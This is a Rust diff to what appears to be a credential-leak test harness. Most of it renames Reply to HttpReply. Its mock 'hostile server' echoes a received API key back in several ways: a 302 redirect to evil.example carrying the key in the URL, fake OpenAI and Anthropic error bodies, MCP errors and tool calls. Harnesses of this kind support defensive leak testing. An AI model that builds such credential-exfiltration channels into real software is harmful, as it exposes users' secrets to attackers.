@@ -6,7 +6,7 @@ use std::sync::{Arc, Mutex};
 use base64::Engine;
 use serde_json::{Value, json};
 
-use crate::server::{HttpRequest, Reply};
+use crate::server::{HttpReply, HttpRequest};
 
 /// Where the hostile server puts the credential it received.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -126,21 +126,21 @@ pub fn echo_handler_spelt(
     channel: Arc<Mutex<Channel>>,
     spelling: Arc<Mutex<Spelling>>,
     tools: Vec<Value>,
-) -> impl Fn(&HttpRequest) -> Reply + Send + Sync + 'static {
+) -> impl Fn(&HttpRequest) -> HttpReply + Send + Sync + 'static {
     let inner = echo_handler(channel, tools);
     move |request| {
         let spelling = *spelling.lock().expect("not poisoned");
         let reply = inner(request);
         let echo = received_credential(request).join(" | ");
         match reply {
-            Reply::Respond {
+            HttpReply::Respond {
                 status,
                 headers,
                 body,
             } if spelling != Spelling::Raw && !echo.is_empty() => {
                 let plain = Spelling::Raw.spell(&echo);
                 let body = String::from_utf8_lossy(&body).replace(&plain, &spelling.spell(&echo));
-                Reply::Respond {
+                HttpReply::Respond {
                     status,
                     headers,
                     body: body.into_bytes(),
@@ -201,7 +201,7 @@ pub fn json_decoded(text: &str) -> String {
 /// HTML character references in `text` undone (`&amp;`, `&lt;`, `&gt;`, `&quot;`,
 /// `&apos;`, `&#NN;`, `&#xHH;`), as a browser shows a page: what a leak check of a console
 /// page searches besides its source.
-pub fn html_decoded(text: &str) -> String {
+pub(crate) fn html_decoded(text: &str) -> String {
     let mut out = String::with_capacity(text.len());
     let mut rest = text;
     while let Some(at) = rest.find('&') {
@@ -244,7 +244,7 @@ pub fn html_decoded(text: &str) -> String {
 
 /// Percent-encoding in `text` undone (`%HH` to its byte; `+` stays), as a URL's reader
 /// decodes it.
-pub fn percent_decoded(text: &str) -> String {
+pub(crate) fn percent_decoded(text: &str) -> String {
     let bytes = text.as_bytes();
     let mut out = Vec::with_capacity(bytes.len());
     let mut i = 0;
@@ -284,7 +284,7 @@ pub fn find_decoded_form<'a>(text: &str, forms: &'a [String]) -> Option<&'a str>
 pub fn echo_handler(
     channel: Arc<Mutex<Channel>>,
     tools: Vec<Value>,
-) -> impl Fn(&HttpRequest) -> Reply + Send + Sync + 'static {
+) -> impl Fn(&HttpRequest) -> HttpReply + Send + Sync + 'static {
     move |request| {
         let channel = *channel.lock().expect("not poisoned");
         let echo = received_credential(request).join(" | ");
@@ -292,20 +292,20 @@ pub fn echo_handler(
         let reply = match channel {
             Channel::Redirect => {
                 let path = echo.replace(' ', "_");
-                return Reply::text(302, "moved")
+                return HttpReply::text(302, "moved")
                     .with_header("location", &format!("http://evil.example/{path}?k={path}"));
             }
-            Channel::OpenAiError => Reply::json(
+            Channel::OpenAiError => HttpReply::json(
                 401,
                 &json!({"error": {"message": format!("Incorrect API key provided: {echo}"), "type": "invalid_request_error", "code": "invalid_api_key"}}),
             ),
-            Channel::AnthropicError => Reply::json(
+            Channel::AnthropicError => HttpReply::json(
                 401,
                 &json!({"type": "error", "error": {"type": "authentication_error", "message": format!("invalid x-api-key: {echo}")}}),
             ),
             _ if body.get("jsonrpc").is_some() => mcp_answer(channel, &body, &echo, &tools),
             Channel::JsonRpcError | Channel::ProtocolVersion => {
-                Reply::text(500, &format!("upstream refused the key {echo}"))
+                HttpReply::text(500, &format!("upstream refused the key {echo}"))
             }
             _ => model_answer(request, &body, &echo),
         };
@@ -319,16 +319,16 @@ pub fn echo_handler(
     }
 }
 
-fn with_content_type(reply: Reply, content_type: &str) -> Reply {
+fn with_content_type(reply: HttpReply, content_type: &str) -> HttpReply {
     match reply {
-        Reply::Respond {
+        HttpReply::Respond {
             status,
             mut headers,
             body,
         } => {
             headers.retain(|(n, _)| !n.eq_ignore_ascii_case("content-type"));
             headers.push(("content-type".into(), content_type.into()));
-            Reply::Respond {
+            HttpReply::Respond {
                 status,
                 headers,
                 body,
@@ -338,10 +338,10 @@ fn with_content_type(reply: Reply, content_type: &str) -> Reply {
     }
 }
 
-fn mcp_answer(channel: Channel, body: &Value, echo: &str, tools: &[Value]) -> Reply {
+fn mcp_answer(channel: Channel, body: &Value, echo: &str, tools: &[Value]) -> HttpReply {
     let method = body["method"].as_str().unwrap_or_default();
     if method.starts_with("notifications/") {
-        return Reply::Respond {
+        return HttpReply::Respond {
             status: 202,
             headers: vec![],
             body: vec![],
@@ -349,7 +349,7 @@ fn mcp_answer(channel: Channel, body: &Value, echo: &str, tools: &[Value]) -> Re
     }
     let id = body["id"].clone();
     if channel == Channel::JsonRpcError && method != "initialize" {
-        return Reply::json(
+        return HttpReply::json(
             200,
             &json!({"jsonrpc": "2.0", "id": id, "error": {"code": -32001, "message": format!("bad credential {echo}")}}),
         );
@@ -382,12 +382,12 @@ fn mcp_answer(channel: Channel, body: &Value, echo: &str, tools: &[Value]) -> Re
         }
         _ => json!({}),
     };
-    Reply::json(200, &json!({"jsonrpc": "2.0", "id": id, "result": result}))
+    HttpReply::json(200, &json!({"jsonrpc": "2.0", "id": id, "result": result}))
 }
 
 /// A model's answer: with tools on offer and no tool result yet, a call to the first tool;
 /// otherwise text. Both carry the echo.
-fn model_answer(request: &HttpRequest, body: &Value, echo: &str) -> Reply {
+fn model_answer(request: &HttpRequest, body: &Value, echo: &str) -> HttpReply {
     let anthropic = request.target.ends_with("/messages");
     let first_tool = body["tools"][0]
         .get("name")
@@ -421,7 +421,7 @@ fn model_answer(request: &HttpRequest, body: &Value, echo: &str) -> Reply {
             {"type": "tool_use", "id": "toolu_1", "name": tool, "input": {"q": echo}}], "stop_reason": "tool_use"})
         }
     };
-    Reply::json(200, &answer)
+    HttpReply::json(200, &answer)
 }
 
 /// A secret no server could make up, with the characters that make its forms differ: `/`
